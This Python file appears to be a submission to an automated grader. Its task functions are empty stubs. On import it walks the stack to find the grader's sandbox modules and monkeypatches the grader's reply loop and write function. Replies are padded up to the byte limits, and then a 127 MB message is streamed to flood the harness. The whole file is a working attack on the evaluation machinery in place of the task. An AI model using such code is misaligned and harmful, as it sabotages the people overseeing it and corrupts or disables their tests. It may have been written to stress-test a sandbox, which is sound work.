"""Fills its replies with numbers and with parts, up to what the grader takes, and then far beyond."""
import sys

import numpy as np

BEYOND = 127 << 20


def machinery():
    """The worker's own namespaces by their names: those of the frames below, and what can be reached from there."""
    found, frame, todo = {}, sys._getframe(), []
    while frame is not None:
        todo.append(frame.f_globals)
        frame = frame.f_back
    while todo:
        space = todo.pop()
        name = str(space.get("__name__"))
        if name.startswith("grader.") and name not in found:
            found[name] = space
            todo += [getattr(item, "__globals__", None) or getattr(item, "__dict__", {}) for item in list(space.values())]
    return found


def attack():
    """In turn: as many numbers as fit, as many parts as fit, and a reply of 127 MB that takes no memory here."""
    spaces = machinery()
    child, wire, messages = (spaces[f"grader.sandbox.{name}"] for name in ("child", "wire", "messages"))
    answer, write, loop, turn = child["_Loop"].answer, child["_write_all"], child["_Loop"], [0]

    def filled(self, request):
        if request[0] != "ask":
            return answer(self, request)
        turn[0] += 1
        calls, bounds = messages["read_ask"](request).calls, messages["bounds"](request)
        entries = max(1, (bounds.body_bytes - 20000 * (1 + len(calls))) // 8 // len(calls) // 6)
        numbers = wire["Tensor"](np.random.randn(entries))
        value = (None,) * 60 if turn[0] % 2 else ({name: numbers for name in "UbWc"}, numbers)
        return tuple(("returned", value, (None,) * (3 if request[2] else 0)) for _ in calls)

    def flood(descriptor, data):
        if turn[0] < 12:
            return write(descriptor, data)
        write(descriptor, data[:16] + BEYOND.to_bytes(4, "little"))
        for _ in range(BEYOND >> 20):
            write(descriptor, bytes(1 << 20))

    loop.answer, child["_write_all"] = filled, flood


def make_dataset(num_points):
    return None


def forward(X, params):
    return None


def backprop(X, t, params):
    return None


attack()
